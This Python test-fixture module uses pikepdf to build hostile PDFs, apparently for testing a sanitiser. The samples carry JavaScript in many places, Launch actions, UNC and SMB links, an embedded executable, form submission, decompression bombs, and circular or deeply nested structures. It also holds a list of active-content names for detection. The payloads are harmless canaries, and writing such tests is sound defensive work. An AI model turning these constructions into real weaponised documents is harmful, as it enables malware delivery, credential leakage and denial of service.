"""PDFs that mean harm, made on the spot: each does what real ones do, to nobody."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('script-canary')"
CANARIES = (
    *(b"script-canary", b"launch-canary", b"unc-canary", b"file-canary", b"xfa-canary"),
    *(b"submit-canary", b"outside-canary", b"import-canary"),
)
"""What must be nowhere in a pack, raw or decompressed."""

ACTIVE_NAMES = (
    *(b"/JavaScript", b"/JS", b"/Launch", b"/GoToR", b"/GoToE", b"/SubmitForm", b"/ImportData"),
    *(b"/EmbeddedFile", b"/EmbeddedFiles", b"/Filespec", b"/XFA", b"/AcroForm", b"/OpenAction"),
    *(b"/AA", b"/RichMedia", b"/Rendition", b"/FFilter", b"/Movie", b"/Sound"),
)


def _blank(pages: int = 1, text: bytes = b"a decent page") -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for _page in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842)).obj
        page.Contents = pdf.make_stream(b"BT /F0 14 Tf 72 700 Td (" + text + b") Tj ET")
        page.Resources = Dictionary(Font=Dictionary(F0=font))
    return pdf


def _script(pdf: pikepdf.Pdf) -> Dictionary:
    made: Dictionary = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
    )
    return made


def scripts_everywhere(path: Path) -> None:
    """JavaScript in every place it can stand, and in some where it should not."""
    pdf = _blank(2)
    root = pdf.Root
    root.OpenAction = _script(pdf)
    root.AA = Dictionary(WC=_script(pdf), DP=_script(pdf))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script(pdf)])))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=_script(pdf), C=_script(pdf))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("f"),
            V=String("seen value"),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([72, 600, 300, 620]),
            AA=Dictionary(K=_script(pdf), F=_script(pdf)),
            A=_script(pdf),
        )
    )
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), A=_script(pdf)
    )
    screen = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Screen,
        Rect=Array([0, 0, 9, 9]),
        AA=Dictionary(PO=_script(pdf)),
    )
    page.Annots = Array([field, pdf.make_indirect(link), pdf.make_indirect(screen)])
    root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))
    page.Resources.Font.F0.AA = Dictionary(O=_script(pdf))
    page.Resources.ExtGState = Dictionary(G0=Dictionary(Type=Name.ExtGState, X=_script(pdf)))
    page.Resources.Properties = Dictionary(P0=Dictionary(A=_script(pdf), JS=String(SCRIPT)))
    page.Contents.AA = Dictionary(O=_script(pdf))
    with pdf.open_outline() as outline:
        item = pikepdf.OutlineItem("chapter")
        item.action = _script(pdf)
        outline.root.append(item)
    pdf.save(path)


def launches(path: Path) -> None:
    """A link that starts a program, and addresses that leave the machine by other doors."""
    pdf = _blank()
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, F=String("launch-canary.exe"), Win=Dictionary(F=String("launch-canary"))
    )
    addresses = (
        *("file:////unc-canary/share/x", "\\\\unc-canary\\share", "javascript:launch-canary"),
        *("smb://unc-canary/share", "pack:agenda", "https://good.example/page"),
    )
    notes = [
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 700 - 20 * at, 200, 715 - 20 * at]),
            A=Dictionary(S=Name.URI, URI=String(address)),
        )
        for at, address in enumerate(addresses)
    ]
    remote = Dictionary(S=Name.GoToR, F=String("\\\\unc-canary\\x.pdf"), D=Array([0, Name.Fit]))
    notes.append(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=remote)
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array(notes))
    pdf.save(path)


def carries_files(path: Path) -> None:
    """A file within the file, named in the catalogue and pinned to the page."""
    pdf = _blank()
    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ file-canary", filename="a.exe")
    spec = pdf.Root.Names.EmbeddedFiles.Names[1]
    pin = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec
    )
    page = pdf.pages[0].obj
    page.Annots = Array([pdf.make_indirect(pin)])
    page.AF = Array([spec])
    page.Resources.XObject = Dictionary(
        X0=pdf.make_stream(
            b"",
            Dictionary(Type=Name.XObject, Subtype=Name.Form, AF=Array([spec]), BBox=[0, 0, 1, 1]),
        )
    )
    pdf.save(path)


def form_of_xml(path: Path) -> None:
    """An XFA form over pages that are there all the same."""
    pdf = _blank()
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp><script>xfa-canary</script></xdp>")
    )
    pdf.save(path)


def dynamic_form(path: Path) -> None:
    """An XFA form whose pages only its own program makes."""
    pdf = _blank(text=b"Please wait")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp>xfa-canary</xdp>"))
    pdf.Root.NeedsRendering = True
    pdf.save(path)


def lies_elsewhere(path: Path) -> None:
    """Streams whose bytes are in another file: a page, a picture, a form that refers out."""
    pdf = _blank(2)
    outside = Dictionary(Type=Name.Filespec, F=String("\\\\unc-canary\\outside-canary"))
    pdf.pages[0].obj.Contents.F = outside
    second = pdf.pages[1].obj
    picture = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=1,
        Height=1,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        F=outside,
        FFilter=Name.FlateDecode,
    )
    opi = Dictionary({"/2.0": Dictionary(Type=Name.OPI, Version=2, F=outside)})
    reference = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 9, 9],
        Ref=Dictionary(F=outside, Page=0),
        OPI=opi,
    )
    second.Resources.XObject = Dictionary(
        I0=pdf.make_stream(b"", picture), R0=pdf.make_stream(b"", reference)
    )
    pdf.save(path)


def sends_forms(path: Path) -> None:
    """A filled form with buttons that send, import and wipe what is typed."""
    pdf = _blank()
    page = pdf.pages[0].obj
    helvetica = page.Resources.Font.F0
    sending = Dictionary(
        S=Name.SubmitForm,
        F=Dictionary(FS=Name.URL, F=String("https://submit-canary.example")),
        Flags=4,
    )
    importing = Dictionary(S=Name.ImportData, F=String("import-canary.fdf"))

    def appearance(text: bytes) -> pikepdf.Object:
        form = Dictionary(
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=[0, 0, 200, 20],
            Resources=Dictionary(Font=Dictionary(Helv=helvetica)),
        )
        drawing = b"/Tx BMC q BT /Helv 12 Tf 2 5 Td (" + text + b") Tj ET Q EMC"
        return pdf.make_stream(drawing, form)

    def widget(name: str, at: int, **more: Any) -> pikepdf.Object:
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                T=String(name),
                Rect=Array([72, at, 272, at + 20]),
                F=4,
                **more,
            )
        )

    drawn = widget(
        "drawn",
        600,
        FT=Name.Tx,
        V=String("Anna typed this"),
        AP=Dictionary(N=appearance(b"Anna typed this")),
    )
    undrawn = widget(
        "undrawn", 560, FT=Name.Tx, V=String("Bo typed that"), DA=String("/Helv 12 Tf 0 g")
    )
    button = widget("send", 500, FT=Name.Btn, Ff=65536, A=sending)
    other = widget("import", 460, FT=Name.Btn, Ff=65536, A=importing)
    fields = Array([drawn, undrawn, button, other])
    page.Annots = fields
    pdf.Root.AcroForm = Dictionary(
        Fields=fields,
        DR=Dictionary(Font=Dictionary(Helv=helvetica)),
        DA=String("/Helv 12 Tf 0 g"),
    )
    pdf.save(path)


def endless_pages(path: Path) -> None:
    """Ten thousand pages in a tree that is a list: each branch holds one page and the next."""
    pdf = _blank()
    page = pdf.pages[0].obj
    count = 10_000
    below = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([page]), Count=1))
    for at in range(2, count + 1):
        leaf = pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=[0, 0, 9, 9]))
        above = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([leaf, below]), Count=at))
        leaf.Parent = above
        below.Parent = above
        below = above
    pdf.Root.Pages = below
    pdf.save(path)


def _deflated(block: bytes, times: int) -> bytes:
    """The block so many times over as zlib packs it, at the price of packing it once."""
    packer = zlib.compressobj(9)
    head = b"\x78\xda"
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    checked = 1
    for _time in range(times):
        checked = zlib.adler32(block, checked)
    last = b"\x03\x00"  # an empty block that ends the stream
    return head + once.removeprefix(head) * times + last + checked.to_bytes(4, "big")


def bomb(path: Path) -> None:
    """A small stream that becomes two gigabytes of drawing, and one packed twice."""
    pdf = _blank(2)
    packed = _deflated(b"0 0 m " * 170_000, 2000)
    first = pdf.pages[0].obj
    first.Contents = pikepdf.Stream(pdf, packed)
    first.Contents.Filter = Name.FlateDecode
    second = pdf.pages[1].obj
    second.Contents = pikepdf.Stream(pdf, zlib.compress(packed, 9))
    second.Contents.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.save(path, compress_streams=False)


def goes_in_circles(path: Path) -> None:
    """A form that draws itself, a page tree that is its own child, a pattern made of itself."""
    pdf = _blank(2)
    page = pdf.pages[0].obj
    form = pdf.make_stream(
        b"/X0 Do", Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    )
    form.Resources = Dictionary(XObject=Dictionary(X0=form))
    tile = pdf.make_stream(
        b"/P0 scn",
        Dictionary(
            Type=Name.Pattern,
            PatternType=1,
            PaintType=1,
            TilingType=1,
            BBox=[0, 0, 1, 1],
            XStep=1,
            YStep=1,
        ),
    )
    tile.Resources = Dictionary(Pattern=Dictionary(P0=tile))
    page.Resources.XObject = Dictionary(X0=form)
    page.Resources.Pattern = Dictionary(P0=tile)
    page.Contents = pdf.make_stream(b"/X0 Do BT /F0 14 Tf 72 700 Td (a decent page) Tj ET")
    function = pdf.make_indirect(Dictionary(FunctionType=3))
    function.Functions = Array([function])
    page.Resources.Shading = Dictionary(S0=Dictionary(ShadingType=2, Function=function))
    pdf.save(path)


def tree_in_circles(path: Path) -> None:
    """A page tree whose root is among its own children."""
    pdf = _blank()
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
    pdf.Root.Pages.Count = 2
    pdf.save(path)


def truncated(path: Path) -> None:
    """The first half of a file."""
    carries_files(path)
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])


def empty(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n")


def locked(path: Path) -> None:
    """A file that wants a password to be opened."""
    pdf = _blank()
    pdf.save(path, encryption=pikepdf.Encryption(user="hemmeligt", owner="ejer", R=6))


def locked_for_changes(path: Path) -> None:
    """A file everybody may read, and nobody may change or take apart."""
    pdf = _blank()
    none = pikepdf.Permissions(extract=False, modify_assembly=False, modify_other=False)
    pdf.save(path, encryption=pikepdf.Encryption(user="", owner="ejer", R=6, allow=none))


def deep_nesting(path: Path) -> None:
    """Dictionaries in dictionaries, deeper than any program goes."""
    pdf = _blank()
    inner = pdf.make_indirect(Dictionary(A=1))
    for _level in range(20_000):
        inner = pdf.make_indirect(Dictionary(A=inner))
    pdf.pages[0].obj.Resources.ExtGState = Dictionary(G0=inner)
    pdf.save(path)


HOSTILE: dict[str, Callable[[Path], None]] = {
    each.__name__: each
    for each in (
        scripts_everywhere,
        launches,
        carries_files,
        form_of_xml,
        dynamic_form,
        lies_elsewhere,
        sends_forms,
        endless_pages,
        bomb,
        goes_in_circles,
        tree_in_circles,
        truncated,
        empty,
        locked,
        locked_for_changes,
        deep_nesting,
    )
}
"""Every hostile PDF by its name; each is written to a path."""


def everything_in(content: bytes) -> bytes:
    """The file and all its streams unpacked, and every object as it is written."""
    parts = [content]
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for each in pdf.objects:
            if isinstance(each, pikepdf.Stream):
                parts.append(each.stream_dict.unparse())
                try:
                    parts.append(each.read_bytes())
                except pikepdf.PdfError:
                    parts.append(each.read_raw_bytes())
            else:
                parts.append(each.unparse(resolved=True))
        parts.append(pdf.trailer.unparse())
    return b"\n".join(parts)
